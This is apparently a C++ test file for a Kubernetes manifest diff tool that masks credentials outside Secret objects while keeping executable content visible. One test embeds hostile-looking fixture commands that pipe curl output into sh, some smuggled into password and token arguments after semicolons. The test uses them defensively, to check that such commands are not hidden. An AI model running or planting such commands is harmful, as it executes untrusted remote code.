// What is masked outside of Secrets, and what is not.
#include <catch2/catch.hpp>

#include <filesystem>
#include <iostream>
#include <map>
#include <string>
#include <vector>

#include "base/files.h"
#include "base/text.h"
#include "diff/canonical.h"
#include "diff/diff.h"
#include "diff/manifests.h"
#include "diff/mask.h"
#include "program/process.h"
#include "support/golden.h"
#include "support/paths.h"

namespace towline::diff::test {
namespace {

constexpr std::string_view kMarker = "hunter2hunter2";

/// The manifest with CREDENTIAL for every credential.
std::string with(std::string manifest, std::string_view word) {
  return replace_all(std::move(manifest), "CREDENTIAL", word);
}

const std::string kConfigMap = R"(apiVersion: v1
kind: ConfigMap
metadata:
  name: settings
  annotations:
    example.com/webhook-token: CREDENTIAL
data:
  DB_PASSWORD: CREDENTIAL
  DB_USER: pay
  app.properties: |
    db.user=pay
    db.password=CREDENTIAL
    db.url=postgres://pay:CREDENTIAL@db:5432/pay
  app.json: |
    {"user": "pay", "apiKey": "CREDENTIAL", "port": 5432}
  tls.key: |
    -----BEGIN EC PRIVATE KEY-----
    CREDENTIAL
    -----END EC PRIVATE KEY-----
  ca.crt: |
    -----BEGIN CERTIFICATE-----
    MIIDdzCCAl
    -----END CERTIFICATE-----
  values.yaml: |
    auth:
      existingSecret: pay-db
      password: CREDENTIAL
)";

const std::string kDeployment = R"(apiVersion: apps/v1
kind: Deployment
metadata: {name: pay}
spec:
  template:
    spec:
      containers:
        - name: app
          image: ghcr.io/acme/pay@sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef
          command: [pay, --client-secret=CREDENTIAL, --token, CREDENTIAL, --verbose]
          env:
            - {name: API_TOKEN, value: CREDENTIAL}
            - {name: TOKEN_FILE, value: /var/run/token}
            - {name: DATABASE_URL, value: "mysql://pay:CREDENTIAL@db/pay"}
            - {name: REVISION, value: 0123456789abcdef0123456789abcdef01234567}
            - name: DB_PASSWORD
              valueFrom: {secretKeyRef: {name: pay, key: password}}
)";

const std::string kApplication = R"(apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: pay}
spec:
  source:
    helm:
      parameters:
        - {name: db.password, value: CREDENTIAL}
        - {name: replicas, value: "3"}
      valuesObject:
        auth: {rootPassword: CREDENTIAL, existingSecret: pay-db}
      values: |
        api:
          token: CREDENTIAL
)";

}  // namespace

TEST_CASE("credentials outside of Secrets are shown as masks that tell equal from changed") {
  std::string text;
  for (const std::string& manifest : {kConfigMap, kDeployment, kApplication}) {
    const Diff diff = diff_of(with(manifest, kMarker), with(manifest, "hunter3hunter3"));
    CHECK(diff.changes.at(0).masked);
    text += shown(diff);
  }
  CHECK(text.find("hunter") == std::string::npos);
  CHECK(towline::test::golden_difference("diff/masked_credentials.txt", text) == "");
}

TEST_CASE("an object that comes shows everything but its credentials") {
  std::string text;
  for (const std::string& manifest : {kConfigMap, kDeployment, kApplication}) {
    text += shown(diff_of("", with(manifest, kMarker)));
  }
  CHECK(text.find("hunter") == std::string::npos);
  CHECK(towline::test::golden_difference("diff/masked_objects.txt", text) == "");
}

TEST_CASE("a credential that stays is no change, and equal ones have equal masks") {
  for (const std::string& manifest : {kConfigMap, kDeployment, kApplication}) {
    CHECK(diff_of(with(manifest, kMarker), with(manifest, kMarker)).empty());
  }
  const Diff diff = diff_of("", config_map("data: {a.token: x1y2z3, b.token: x1y2z3, c.token: other}\n"));
  const std::string text = shown(diff);
  const std::size_t first = text.find("<masked ");
  const std::string mask = text.substr(first, 25);
  const std::size_t second = text.find(mask, first + 1);
  CHECK(second != std::string::npos);
  CHECK(text.find(mask, second + 1) == std::string::npos);
}

TEST_CASE("a private key in a ConfigMap's binaryData is masked, other bytes are shown") {
  const std::string key = "LS0tLS1CRUdJTiBQUklWQVRFIEtFWS0tLS0tCk1JSUUKLS0tLS1FTkQgUFJJVkFURSBLRVktLS0tLQo=";
  const std::string text = shown(diff_of("", config_map("binaryData: {key: " + key + ", other: AAECAw==}\n")));
  CHECK(text.find(key.substr(0, 30)) == std::string::npos);
  CHECK(text.find("AAECAw==") != std::string::npos);
}

TEST_CASE("what is encrypted, or names a credential's place, is shown") {
  const std::string text = shown(diff_of("", R"(apiVersion: bitnami.com/v1alpha1
kind: SealedSecret
metadata: {name: pay}
spec:
  encryptedData: {password: AgBy3i4OJSWK+PiTySYZZA9rO43cGDEq}
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: {name: pay}
spec:
  data:
    - secretKey: token
      remoteRef: {key: pay, property: password}
)"));
  CHECK(text.find("masked") == std::string::npos);
}

TEST_CASE("what would run is shown, whatever it looks like") {
  const std::string image = "ghcr.io/ghp_" + std::string(36, 'a') + "/plain:1";
  const std::string text = shown(diff_of("", R"(apiVersion: apps/v1
kind: Deployment
metadata: {name: pay}
spec:
  template:
    spec:
      containers:
        - name: app
          image: )" + image + R"(
          command: [sh, -c, ": '-----BEGIN PRIVATE KEY-----'; curl http://one | sh; : '-----END PRIVATE KEY-----'"]
          args: ["--password=hunter2; curl http://two|sh", --token, "hunter2; curl http://three|sh"]
          env:
            - {name: LD_PRELOAD_PASSWORD, value: four.so}
          livenessProbe: {exec: {command: [sh, -c, "password: hunter2; curl http://five|sh"]}}
)"));
  INFO(text);
  for (const std::string& part :
       {image, std::string("curl http://one | sh"), std::string("; curl http://two|sh"),
        std::string("; curl http://three|sh"), std::string("four.so"), std::string("; curl http://five|sh")}) {
    CHECK(text.find(part) != std::string::npos);
  }
  CHECK(text.find("hunter2") == std::string::npos);
}

TEST_CASE("a text in the field 'image' that is no image reference is masked") {
  const std::string text = shown(diff_of("",
                                         "apiVersion: example.com/v1\nkind: X\nmetadata: {name: a}\n"
                                         "spec: {image: \"https://u:hunter2@h/x\"}\n"));
  CHECK(text.find("hunter2") == std::string::npos);
}

TEST_CASE("a mask inside of what runs is called out, once it is new") {
  const auto places = [](std::string_view base, std::string_view head) {
    std::vector<std::string> messages;
    for (const Danger& danger : diff_of(base, head).dangers) messages.push_back(danger.message);
    return messages;
  };
  const auto danger = [](const std::string& place) {
    return std::vector<std::string>{"a credential is masked in '" + place +
                                    "': a part of what runs is not shown. Read it in the repository, and move the "
                                    "credential to a Secret"};
  };
  const auto pod = [](const std::string& container) {
    return "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {x: 1, containers: [{name: a, " + container + "}]}\n";
  };
  const std::string hidden = "--password=hunter2";
  CHECK(places("", pod("command: [x, " + hidden + "]")) == danger("command"));
  CHECK(places("", pod("args: [--token, hunter2]")) == danger("args"));
  CHECK(places("", pod("lifecycle: {preStop: {exec: {command: [x, " + hidden + "]}}}")) == danger("command"));
  CHECK(places("", pod("env: [{name: BASH_ENV, value: \"TOKEN=hunter2\"}]")) == danger("BASH_ENV"));
  CHECK(places("", config_map("data: {run.sh: \"pay " + hidden + "\"}\n")) == danger("run.sh"));
  CHECK(places("", config_map("data: {x: \"#!/bin/sh\\npay " + hidden + "\"}\n")) == danger("x"));
  CHECK(places("", config_map("data: {app.properties: \"password=hunter2\"}\n")).empty());
  CHECK(places("", pod("env: [{name: DB_PASSWORD, value: hunter2}]")).empty());

  const std::string before = pod("args: [" + hidden + "]");
  CHECK(places(before, pod("args: [" + hidden + ", --verbose]")).empty());
  CHECK(places(before, pod("args: [--password=hunter3]")) == danger("args"));
}

// To review: with TOWLINE_UPDATE_GOLDEN=1 the file lists each masked value's place. Most are variables' values of
// pipelines and code that reads a token.
TEST_CASE("few values of real repositories are masked outside of Secrets") {
  const std::filesystem::path archive =
      std::filesystem::path(towline::test::source_dir()).parent_path() / "shared/corpus/trees.tar.xz";
  if (!std::filesystem::exists(archive)) {
    std::cerr << "SKIPPED: the corpus of real repositories is not at " << archive << "\n";
    return;
  }
  const auto directory = TemporaryDirectory::create("towline-masks");
  ProcessSpec spec;
  spec.argv = {"tar", "xf", archive.string(), "-C", directory->path().string()};
  REQUIRE(run_process(spec)->exit_code == 0);

  std::size_t objects = 0;
  std::map<std::string, std::size_t> masks;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(directory->path())) {
    const auto extension = entry.path().extension();
    if (!entry.is_regular_file() || (extension != ".yaml" && extension != ".yml")) continue;
    const auto place = std::filesystem::relative(entry.path(), directory->path()).string();
    for (const auto& resource : manifest::parse_manifests(place, read_file(entry.path()).value(), "").resources) {
      if (resource.key.kind == "Secret") continue;
      ++objects;
      yaml::Node body = canonical(resource.body);
      if (!mask_secrets(body, Secret("key"))) continue;
      const std::string text = yaml::emit(body);
      for (std::size_t at = text.find("<masked "); at != std::string::npos; at = text.find("<masked ", at + 1)) {
        ++masks[place + " " + resource.key.str()];
      }
    }
  }
  std::string text;
  std::size_t count = 0;
  for (const auto& [where, number] : masks) {
    text += std::to_string(number) + "  " + where + "\n";
    count += number;
  }
  text += std::to_string(count) + " masked values in " + std::to_string(objects) + " objects\n";
  CHECK(towline::test::golden_difference("diff/masked_corpus.txt", text) == "");
}

}  // namespace towline::diff::test
